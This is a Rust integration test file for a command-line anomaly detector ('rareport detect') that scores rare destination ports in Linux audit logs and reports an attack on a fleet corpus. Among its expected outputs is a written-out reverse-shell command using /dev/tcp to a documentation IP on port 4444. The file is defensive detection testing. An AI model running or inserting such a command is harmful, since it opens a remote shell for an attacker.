//! `rareport detect`.

use serde_json::Value;

use crate::common::{Run, corpus, rareport, rareport_with};

/// The attack in corpus/fleet-day by port, with scores that another
/// implementation of the model gave.
const ATTACK: [(&str, f64); 7] = [
    ("4444", 67.7),
    ("31337", 64.2),
    ("6667", 61.4),
    ("8291", 59.0),
    ("31330", 51.1),
    ("31331", 51.1),
    ("31332", 51.1),
];

/// How far a score may be from that of the other implementation, which did not
/// leave out connects to `0.0.0.0`.
const NEAR: f64 = 0.5;

/// Values of an influencer field of an alert.
fn influencer<'a>(alert: &'a Value, field: &str) -> Vec<&'a str> {
    let fields = alert["influencers"].as_array().unwrap();
    let named = |entry: &&Value| entry["influencer_field_name"] == field;
    let values = fields.iter().find(named).unwrap()["influencer_field_values"].as_array().unwrap();
    values.iter().map(|value| value.as_str().unwrap()).collect()
}

#[test]
fn the_attack_on_the_fleet_is_found_and_nothing_else() {
    let run = rareport(&["-v", "detect", &corpus("fleet-day")]).expect(0);
    let found = run.documents();
    assert_eq!(found.len(), ATTACK.len(), "{}", run.stdout);
    for (alert, (port, score)) in found.iter().zip(ATTACK) {
        assert_eq!(alert["by_field_value"], port);
        let near = (alert["record_score"].as_f64().unwrap() - score).abs() < NEAR;
        assert!(near, "{port}: {}", alert["record_score"]);
    }
    let first = &found[0];
    assert_eq!(influencer(first, "host.name"), ["web01"]);
    assert_eq!(influencer(first, "process.name"), ["bash"]);
    assert_eq!(influencer(first, "user.name"), ["www-data"]);
    assert_eq!(influencer(first, "destination.ip"), ["203.0.113.66"]);
    assert!(run.stderr.contains("7 alerts"), "{}", run.stderr);
    assert!(run.stderr.contains("closed with the input"), "{}", run.stderr);
}

#[test]
fn a_run_that_went_well_says_one_line() {
    let run = rareport(&["detect", &corpus("fleet-day")]).expect(0);
    // The two are in the ground truth of the log, at 1780574751 and 1780573065.
    assert_eq!(
        run.stderr,
        "rareport: port 4444 was used later by ci01 at 2026-06-04T12:05:51.863Z\n\
         rareport: port 31337 was used later by db01 at 2026-06-04T11:37:45.448Z\n\
         rareport: 7 alerts with a score of 50 or more in 339 buckets of 15 minutes, the last \
         closed with the input\n"
    );
    let events = rareport(&["events", &corpus("fleet-day")]).expect(0);
    assert_eq!(
        events.stderr,
        "rareport: 33,459 lines, 33,459 records, 10,300 events, 10,087 connections\n"
    );
    rareport(&["detect", "-v", "--quiet", &corpus("fleet-day")]).expect(2);
}

#[test]
fn three_logs_are_the_same_as_their_merge() {
    let merged = rareport(&["detect", &corpus("fleet-day")]).expect(0);
    let three = rareport(&["detect", &corpus("fleet-hosts")]).expect(0);
    assert_eq!(merged.alerts_without_files(), three.alerts_without_files());
    let again = rareport(&["detect", &corpus("fleet-hosts")]).expect(0);
    assert_eq!(three.stdout, again.stdout);
}

#[test]
fn the_table_shows_who_and_where() {
    let run = rareport(&["detect", "--format", "table", &corpus("fleet-day")]).expect(0);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 1 + ATTACK.len());
    for word in ["2026-06-04T09:30:00.000Z", "4444", "web01", "bash", "www-data", "203.0.113.66"] {
        assert!(lines[1].contains(word), "{}", lines[1]);
    }
    let csv = rareport(&["detect", "--format", "csv", &corpus("fleet-day")]).expect(0);
    assert!(csv.stdout.starts_with("@timestamp,destination.port,record_score,"), "{}", csv.stdout);
    assert_eq!(csv.stdout.lines().count(), 1 + ATTACK.len());
}

#[test]
fn the_threshold_and_the_exit_status() {
    let fleet = corpus("fleet-day");
    let high = rareport(&["detect", "--threshold", "60", "--exit-code", &fleet]).expect(1);
    assert_eq!(high.documents().len(), 3);
    let none = rareport(&["detect", "--threshold", "99", "--exit-code", &fleet]).expect(0);
    assert_eq!(none.stdout, "");
    rareport(&["detect", "--threshold", "101", &fleet]).expect(2);
    // The attack begins in the last four hours.
    let before = ["detect", "--to", "2026-06-04T09:00:00Z", "--exit-code", &fleet];
    rareport(&before).expect(0);
}

#[test]
fn without_an_alert_the_closest_is_told() {
    let told = |threshold: &str| {
        rareport(&["detect", "--threshold", threshold, &corpus("fleet-day")]).expect(0).stderr
    };
    let none = told("99");
    let (before, closest) = none.split_once("; the highest was ").expect(&none);
    assert!(before.contains("0 alerts with a score of 99 or more in "), "{none}");
    let (score, whose) = closest.split_once(": ").unwrap();
    assert!((score.parse::<f64>().unwrap() - ATTACK[0].1).abs() < NEAR, "{none}");
    assert_eq!(whose, "port 4444 at 2026-06-04T09:30:00.000Z (web01, bash)\n");
    let warning = format!("a port that was never seen before scored only {score}");
    assert!(none.contains(&warning), "{none}");
    let some = told("60");
    assert!(!some.contains("the highest") && !some.contains("scored only"), "{some}");
    let log: String = (0..60).map(|minute| connect(minute, 443, "CB007109")).collect();
    let usual = rareport_with(&["detect", "--threshold", "100"], log.as_bytes()).expect(0).stderr;
    assert!(usual.contains("of 15 minutes, the last closed with the input; "), "{usual}");
}

#[test]
fn what_was_before_is_learned_and_not_reported() {
    let fleet = corpus("fleet-day");
    let whole = rareport(&["detect", &fleet]).expect(0);
    let later =
        |alert: &Value, from: &str| alert["kibana.alert.original_time"].as_str() >= Some(from);
    for (from, first) in [
        ("2026-06-03T00:00:00Z", "2026-06-03"),
        ("2026-06-04T09:44:59Z", "2026-06-04T09:30"),
        ("2026-06-04T09:45:00Z", "2026-06-04T09:45"),
        ("2026-06-04T11:00:00Z", "2026-06-04T11:00"),
    ] {
        let run = rareport(&["detect", &fleet, "--from", from]).expect(0);
        let mut wanted = whole.documents();
        wanted.retain(|alert| later(alert, first));
        assert_eq!(run.documents(), wanted, "{from}");
    }
    // The log ends at 13:00.
    let last_hour = rareport(&["detect", &fleet, "--from", "2026-06-04T12:00:00Z"]).expect(0);
    assert!(
        last_hour.stderr.contains(" in 4 buckets of 15 minutes, the last "),
        "{}",
        last_hour.stderr
    );
    let after = rareport(&["detect", &fleet, "--from", "2030-01-01"]).expect(0);
    assert!(
        after.stderr.contains(
            "nothing in the input happened at 2030-01-01T00:00:00.000Z (--from) or later"
        ),
        "{}",
        after.stderr
    );
    assert_eq!(after.stdout, "");
    // Rows are no other than logs.
    let events = rareport(&["events", &fleet]).expect(0).stdout;
    let arguments = ["detect", "--from", "2026-06-04T09:45:00Z", "--format", "csv"];
    let of_rows = rareport_with(&arguments, events.as_bytes()).expect(0);
    assert_eq!(of_rows.stdout.lines().count(), 1 + ATTACK.len() - 1, "{}", of_rows.stdout);
}

#[test]
fn rows_without_the_field_of_the_job_are_no_input() {
    let records = rareport(&["records", &corpus("edge/edge.log")]).expect(0).stdout;
    for command in ["detect", "anomalies"] {
        let run = rareport_with(&[command], records.as_bytes()).expect(2);
        assert!(run.stderr.contains("no event has a value of destination.port;"), "{}", run.stderr);
        // A single value will do.
        let row = "{\"@timestamp\":\"2026-06-01T00:00:00Z\",\"destination\":{\"port\":443}}\n";
        rareport_with(&[command], (records.clone() + row).as_bytes()).expect(0);
        // A log without connects is one that says so.
        rareport_with(&[command], (connect(0, 443, "7F000001")).as_bytes()).expect(0);
    }
}

/// A connect to a port of another host (or of this one) at a minute.
fn connect(minute: u64, port: u16, address: &str) -> String {
    let (second, serial) = (1_700_000_000 + 60 * minute, 10 * minute + u64::from(port % 10));
    format!(
        "type=SYSCALL msg=audit({second}.000:{serial}): arch=c000003e syscall=42 success=yes \
         exit=0 a0=3 pid=1 uid=33 comm=\"nc\" exe=\"/usr/bin/nc\"\n\
         type=SOCKADDR msg=audit({second}.000:{serial}): saddr=0200{port:04X}{address}\n\
         type=PROCTITLE msg=audit({second}.000:{serial}): proctitle=6E63\n"
    )
}

#[test]
fn a_short_log_is_told_to_be_one() {
    let log: String = (0..60).map(|minute| connect(minute, 443, "CB007109")).collect();
    let run = rareport_with(&["detect"], log.as_bytes()).expect(0);
    assert_eq!(run.stdout, "");
    assert!(run.stderr.contains("to learn from"), "{}", run.stderr);
}

#[test]
fn a_log_without_addresses_is_told_to_be_one() {
    let log: String = (0..60).map(|minute| connect(minute, 443, "CB007109")).collect();
    let bare: String =
        log.split_inclusive('\n').filter(|line| !line.contains("SOCKADDR")).collect();
    let told = |log: &str| rareport_with(&["detect"], log.as_bytes()).expect(0).stderr;
    assert!(told(&bare).contains("have no SOCKADDR records"), "{}", told(&bare));
    assert!(!told(&log).contains("SOCKADDR"));
    // One connect with an address does not make the log whole, half of them do.
    let nearly = [bare.as_str(), &connect(60, 443, "CB007109")].concat();
    assert!(told(&nearly).contains("have no SOCKADDR records"));
    let (bare_half, half) = (&bare[..bare.len() / 2], &log[log.len() / 2..]);
    assert!(!told(&[bare_half, half].concat()).contains("have no SOCKADDR records"));
}

#[test]
fn a_log_of_less_than_a_bucket_is_told_to_be_one() {
    // A bucket begins 100 seconds after minute 0.
    let log: String = (2..5).map(|minute| connect(minute, 443, "CB007109")).collect();
    let run = rareport_with(&["detect"], log.as_bytes()).expect(0);
    assert!(run.stderr.contains("less than one full bucket of 15 minutes"), "{}", run.stderr);
}

#[test]
fn a_range_that_ends_with_a_bucket_leaves_it_whole() {
    let told =
        |to: &str| rareport(&["detect", "-v", "--to", to, &corpus("fleet-day")]).expect(0).stderr;
    assert!(told("2026-06-04T09:07:00").contains("may be incomplete"));
    assert!(!told("2026-06-04T09:00:00").contains("may be incomplete"));
    // The log does not go on so far.
    assert!(told("2030-01-01").contains("may be incomplete"));
}

#[test]
fn the_summary_tells_what_was_used() {
    let log: String = (0..60).map(|minute| connect(minute, 443, "CB007109")).collect();
    let told = |arguments: &[&str]| rareport_with(arguments, log.as_bytes()).expect(0).stderr;
    let from = "1700001200"; // 20 minutes in
    let detect = told(&["detect", "--from", from, "--verbose"]);
    assert!(detect.contains("60 connections, 40 of them in the wanted range of time"), "{detect}");
    let events = told(&["events", "--from", from, "--kind", "bind"]);
    assert!(events.contains("40 of them in the wanted range of time, 0 shown"), "{events}");
    assert!(!told(&["events"]).contains("of them") && !told(&["events"]).contains("shown"));
}

#[test]
fn what_is_left_out_is_counted() {
    let log = [
        connect(0, 443, "CB007109"),
        connect(1, 80, "7F00000B"),
        connect(2, 22, "00000000"),
        connect(3, 0, "CB007109"),
    ]
    .concat();
    let run = rareport_with(&["detect", "-v"], log.as_bytes()).expect(0);
    for part in ["1 to this host itself", "1 to no address", "1 to port 0"] {
        assert!(run.stderr.contains(part), "{}", run.stderr);
    }
}

#[test]
fn a_host_without_a_name_has_one_all_the_same() {
    let log: String = (0..3000)
        .flat_map(|minute| [22, 443].map(|port| connect(minute, port, "CB007109")))
        .chain([connect(3000, 4444, "CB007109")])
        .collect();
    let host = |arguments: &[&str]| {
        let run = rareport_with(arguments, log.as_bytes()).expect(0);
        let alerts = run.documents();
        assert_eq!(alerts.len(), 1, "{}", run.stdout);
        assert_eq!(influencer(&alerts[0], "user.name"), ["33"]);
        influencer(&alerts[0], "host.name")[0].to_owned()
    };
    assert_eq!(host(&["detect", "--threshold", "20"]), "localhost");
    assert_eq!(host(&["detect", "--threshold", "20", "--host", "gateway"]), "gateway");
}

#[test]
fn a_connect_may_come_a_little_late() {
    let in_order: String = (0..60).map(|minute| connect(minute, 443, "CB007109")).collect();
    let late = |minutes: u64| [in_order.as_str(), &connect(60 - minutes, 80, "CB007109")].concat();
    let told = |log: String| rareport_with(&["detect"], log.as_bytes()).expect(0).stderr;
    assert!(!told(late(2)).contains("could not be counted"));
    assert!(told(late(50)).contains("1 connect came after a bucket was closed"));
}

/// Runs `detect` on a hundred hosts behind a shell command.
#[cfg(unix)]
fn detect_behind(command: &str) -> std::process::Output {
    let fleet = tempfile::TempDir::new().unwrap();
    for host in 0..100 {
        let directory = fleet.path().join(format!("host{host}"));
        std::fs::create_dir(&directory).unwrap();
        std::fs::copy(corpus("quirks/00-plain.log"), directory.join("audit.log")).unwrap();
    }
    std::process::Command::new("sh")
        .args(["-c", &format!("{command} && exec \"$0\" -v detect \"$1\"")])
        .arg(env!("CARGO_BIN_EXE_rareport"))
        .arg(fleet.path())
        .output()
        .unwrap()
}

#[cfg(unix)]
#[test]
fn no_host_is_lost_to_the_bound_of_open_files() {
    let raised = detect_behind("ulimit -S -n 64");
    let said = String::from_utf8(raised.stderr).unwrap();
    assert_eq!(raised.status.code(), Some(0), "{said}");
    assert!(said.contains("100 connections"), "{said}");
    let refused = detect_behind("ulimit -n 64");
    let said = String::from_utf8(refused.stderr).unwrap();
    assert_eq!(refused.status.code(), Some(2), "{said}");
    assert!(said.contains("ulimit -n 132"), "{said}");
}

/// A connect at a time in seconds since 1970.
fn connect_at(time: i64, port: u16) -> String {
    format!(
        "type=SYSCALL msg=audit({time}.000:1): arch=c000003e syscall=42 success=yes exit=0 a0=3 \
         pid=1 uid=0\ntype=SOCKADDR msg=audit({time}.000:1): saddr=0200{port:04X}CB007109\n\
         type=PROCTITLE msg=audit({time}.000:1): proctitle=6E63\n"
    )
}

#[test]
fn one_event_of_a_wrong_clock_costs_nothing() {
    const BEGIN: i64 = 1_780_272_000;
    let mut usual: Vec<String> = (0..300)
        .flat_map(|bucket| [22, 53, 80, 443].map(|port| connect_at(BEGIN + bucket * 900, port)))
        .collect();
    usual.push(connect_at(BEGIN + 299 * 900 + 7, 4444));
    let detect = |log: &[String]| {
        rareport_with(&["detect", "--threshold", "5"], log.concat().as_bytes()).expect(0)
    };
    let right = detect(&usual);
    assert_eq!(right.documents().len(), 1);
    for (at, time) in [(0, 4_100_000_000), (600, BEGIN + 200 * 86_400), (0, BEGIN - 400 * 86_400)] {
        let mut log = usual.clone();
        log.insert(at, connect_at(time, 4444));
        let wrong = detect(&log);
        let ports = |run: &Run| {
            let alerts = run.documents();
            alerts.iter().map(|alert| alert["by_field_value"].clone()).collect::<Vec<_>>()
        };
        assert_eq!(ports(&wrong), ports(&right), "{at} {time}: {}", wrong.stderr);
        assert!(wrong.stderr.contains("clock"), "{}", wrong.stderr);
    }
}

#[test]
fn details_show_the_events_below_the_table() {
    let fleet = corpus("fleet-day");
    let table = ["detect", "--format", "table", &fleet];
    let (plain, run) = (rareport(&table), rareport(&[&table[..], &["--details"]].concat()));
    let details = run.stdout.strip_prefix(&plain.stdout).expect("the table comes first");
    let block = details.split("\n\n").next().unwrap();
    // The event is the one that `xzgrep 'node=web01.*:3163)' fleet-day/audit.log.xz` shows.
    for line in [
        "port 4444, score 67.3",
        "  bucket  from 2026-06-04T09:30:00.000Z",
        "  - 2026-06-04T09:36:05.716Z on web01 by www-data, pid 1971, parent 396",
        "    to    203.0.113.66",
        "    exe   /usr/bin/bash",
        "    ran   bash -c exec 3<>/dev/tcp/203.0.113.66/4444",
        &format!("    see   xzcat {fleet}/audit.log.xz | ausearch -a 3163 --node web01"),
        &format!("    or    rareport records --event 1780565765.716:3163 {fleet}/audit.log.xz"),
    ] {
        assert!(block.lines().any(|it| it == line), "{line}\n{block}");
    }
    assert_eq!(details.matches("\nport ").count(), 7);
    // Who asks for details reads them, in a pipe too.
    assert_eq!(rareport(&["detect", "--details", &fleet]).expect(0).stdout, run.stdout);
    let documents = rareport(&["detect", "--details", "--format", "ndjson", &fleet]).expect(0);
    assert_eq!(documents.documents().len(), 7);
}

#[test]
fn later_uses_of_an_alerted_port_are_told() {
    let on = |host: &str, event: String| -> String {
        event.lines().map(|line| format!("node={host} {line}\n")).collect()
    };
    let mut log = String::new();
    for minute in 0..3000 {
        for port in [22, 443] {
            log += &on("web01", connect(minute, port, "CB007109"));
        }
        match minute {
            2000 => log += &on("web01", connect(minute, 4444, "CB007109")),
            2100 => log += &on("web01", connect(minute, 4444, "CB007109")),
            2200 | 2300 => log += &on("db01", connect(minute, 4444, "CB007109")),
            _ => {}
        }
    }
    let detect = |threshold: &str| {
        rareport_with(&["detect", "--threshold", threshold], log.as_bytes()).expect(0)
    };
    // Each use has an alert of its own, which names its host.
    let each = detect("20");
    assert_eq!(each.documents().len(), 4);
    assert!(!each.stderr.contains("used later"), "{}", each.stderr);
    let first = detect(&each.documents()[0]["record_score"].to_string());
    assert_eq!(first.documents().len(), 1);
    // Minute 2200 behind 1,700,000,000, by `date -u -d @1700132000`.
    let told = "port 4444 was used later by db01 at 2023-11-16T10:53:20.000Z\n";
    assert!(first.stderr.contains(told), "{}", first.stderr);
}

#[test]
fn a_run_that_looked_at_nothing_says_so_and_why() {
    let fleet = corpus("fleet-day");
    let log: String = (0..200).map(|minute| connect(minute, 443, "CB007109")).collect();
    let without_calls: String = log
        .lines()
        .filter(|it| !it.starts_with("type=SYSCALL"))
        .map(|it| it.to_owned() + "\n")
        .collect();
    let begun = connect(0, 443, "CB007109");
    let other = "type=USER_LOGIN msg=audit(1700000000.000:1): pid=1 uid=0 res=success\n";
    let looked = |arguments: &[&str], log: &str, status: i32| {
        let run = rareport_with(&[&["detect"], arguments].concat(), log.as_bytes()).expect(status);
        assert!(!run.stderr.contains("0 alerts"), "{}", run.stderr);
        assert_eq!(run.stdout, "");
        run.stderr
    };
    let directory = tempfile::tempdir().unwrap();
    let path = |name: &str| directory.path().join(name).to_str().unwrap().to_owned();
    let always = "[[calendar]]\ncomment = \"c\"\nfrom = 2020-01-01\nto = 2030-01-01\n";
    std::fs::write(path("always.toml"), always).unwrap();
    std::fs::write(path("no-calls.log"), &without_calls).unwrap();
    let first = ["detect", "--state", &path("state"), &fleet];
    rareport(&first).expect(0);
    for (arguments, log, why) in [
        (&["-"][..], other, "there is no connect to look at"),
        (&["-"], &without_calls, "there is no connect to look at"),
        (&["--state", &path("new"), "-"], other, "there is no connect to look at"),
        (&["--state", &path("fresh"), &path("no-calls.log")], "", "there is no connect to look at"),
        (&["--rules", &path("always.toml"), "-"], &log, "lies in a calendar window or is ignored"),
        (&first[1..], "", "no event of the input is new to"),
        (&["-"], &begun, "less than one full bucket of 15 minutes"),
    ] {
        let told = looked(arguments, log, 0);
        assert!(told.contains("nothing was looked at: ") && told.contains(why), "{told}");
        // As grep: what could not be looked at is no good news for a script, even a quiet one.
        let told = looked(&[arguments, &["--exit-code", "--quiet"]].concat(), log, 2);
        assert!(told.contains("error: nothing was looked at: ") && told.contains(why), "{told}");
    }
    for (range, told) in [
        (["--to", "2020-01-01"], "happened before 2020-01-01T00:00:00.000Z (--to); give"),
        (["--from", "2027-01-01"], "happened at 2027-01-01T00:00:00.000Z (--from) or later; give"),
    ] {
        let outside = looked(&[&range[..], &[&fleet]].concat(), "", 0);
        assert!(outside.contains(told) && !outside.contains("looked at"), "{outside}");
        let asked = looked(&[&range[..], &["--exit-code", "--quiet", &fleet]].concat(), "", 2);
        assert!(
            asked.contains("looked at: nothing in the input is in the wanted range"),
            "{asked}"
        );
    }
    // A bucket that goes on with the next run is as it should be.
    let open = looked(&["--state", &path("open"), "--exit-code", "-"], &begun, 0);
    assert!(open.contains("no bucket is complete yet"), "{open}");
}
